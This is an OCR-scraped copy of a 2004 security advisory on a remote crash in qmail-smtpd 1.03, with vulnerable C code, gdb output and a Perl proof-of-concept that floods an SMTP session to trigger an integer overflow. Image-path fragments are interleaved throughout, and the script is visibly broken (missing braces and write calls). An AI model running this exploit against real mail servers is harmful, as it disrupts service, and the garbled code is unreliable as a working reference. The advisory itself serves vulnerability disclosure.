Lame crash in qmail-smtpd,  yet still qmail much better than windows

cyrillic logo
Internet Explorer
Windows2000
In the news
Random stuff

Georgi Guninski security advisory #65, 2004

Version 2.0 - corrects stuff from the original announcement.

Lame crash in qmail-smtpd and memory overwrite according to gdb, yet still qmail much better than windows

Systems affected:
qmail 1.03 on linux, don't know about other OSes.

Risk: Very low.
Date: 15 January 2004
Updated: 26 January.
Version 1 is not correct but available here

Legal Notice:
This Advisory is Copyright (c) 2004 Georgi Guninski.
You may distribute it unmodified.
You may not modify it and distribute it or distribute parts
of it without the author's written permission - this especially applies to
so called "vulnerabilities databases" and securityfocus, microsoft, cert
and mitre.
If you want tolink to this content use the URL:
Anything in this document may change without notice.

The information in this advisory is believed to be true though
it may be false.
The opinions expressed in this advisory and program are my own and
not of any company. The usual standard disclaimer applies,
especially the fact that Georgi Guninski is not liable for any damages
caused by direct or  indirect use of the information or functionality
provided by this advisory or program. Georgi Guninski bears no
responsibility for content or misuse of this advisory or program or
any derivatives thereof.

Actually there are twodifferent problems:
a) It is possible to crash qmail-smtpd 1.03 from remote with a long SMTP
session. The crash is not global, it affects only the current SMTP session.

about a)
It is possible to trigger segmentation violation (SEGV) in qmail-smtpd  1.03
on linux from the network.

The problem is in:
void blast(hops)
int *hops;
int pos; /* number of bytes since most recent \n, if fih */
   if (pos < 9) {
        if (ch != "delivered"[pos]) if (ch != "DELIVERED"[pos]) flagmaybez = 0;When pos is incremented long enough, it becomes negative and the check
(pos<9) passes while pos is around 0x80000000.
Then "delivered"[pos] causes segmentation violation.

Don't know whether RFC compliant message can trigger this.

Here is a log of the crash:
./ localhost 25
qmail-smtpd SEGV. Written by Georgi Guninski
Will connect to localhost:25 fromaddr=you@email touser=postmaster
<in another console>
ps awx | grep qmail-smtpd
1810 ?        R      0:06 qmail-smtpd

gdb attach 1810
GNU gdb
(gdb) cont
Program received signal SIGSEGV, Segmentation fault.
0x0804937c in blast (hops=0xbffffd8c) at qmail-smtpd.c:321
321             if (ch != "delivered"[pos]) if (ch != "DELIVERED"[pos]) flagmaybez = 0;
(gdb) p pos
$1 = -2147483648
(gdb) p/x pos
$2 = 0x80000000
#!/usr/bin/perl -w#Copyright Georgi Guninski\nCannot be used in vulnerability databases and
#similar stuff

use IO::Socket;

my $port = $ARGV[1];
my $host = $ARGV[0];

my $socket = IO::Socket::INET->new(PeerAddr => $host,PeerPort => $port,Proto => "TCP") || die "socket";

my $req = "HELO a\r\n";
my $fromaddr="you\@email";
my $touser="postmaster";

print "qmail-smtpd SEGV. Copyright Georgi Guninski\nCannot be used in vulnerability databases and similar stuff\nWill connect to ${host}:${port} fromaddr=${fromaddr} touser=${touser}\n";

$req .= "MAIL FROM: ${fromaddr}\r\n";
$req .= "RCPT TO: ${touser}\r\n";

$req .= "DATA\r\n";

$req .= "1234567890";

#my $x = "\ng" x 100;
#print $x;


my $l1= 1024*1024;
my $p1 = "gg" x $l1;my $pl = 2*$l1;
print "length=${pl}\n";
my $towrite = $l1*2050;
my $wri = 0;
$req = $p1;
while ($wri < $towrite)
if ( ($wri % $l1) == 0) {print "written=" . $wri/$l1 . "\n";}
# !!! uncomment the following lines to get qmail memory screw on linux according to gdb
#if ($wri/$l1 == 2044)
#syswrite($socket,"g\r\n",3);print "injected\n";
$wri += $pl;

$req = "test\r\n";
$req .= ".\r\n";


print $_;

close $socket;


Workaround: Not tested, but setting quota on the receiving email may help.

Vendor status: was notified about a) on Mon, 12 Jan2004 16:06:06 +0200
Message-Id: <>
Didn't hear from him.
His qsecretary wanted me to not be spammer and i confirmed i am not a
spammer to:
To: "The qsecretary program" <>

Georgi Guninski


| Home | Internet Explorer | Windows 2000 | AIX | Netscape | Links | More... |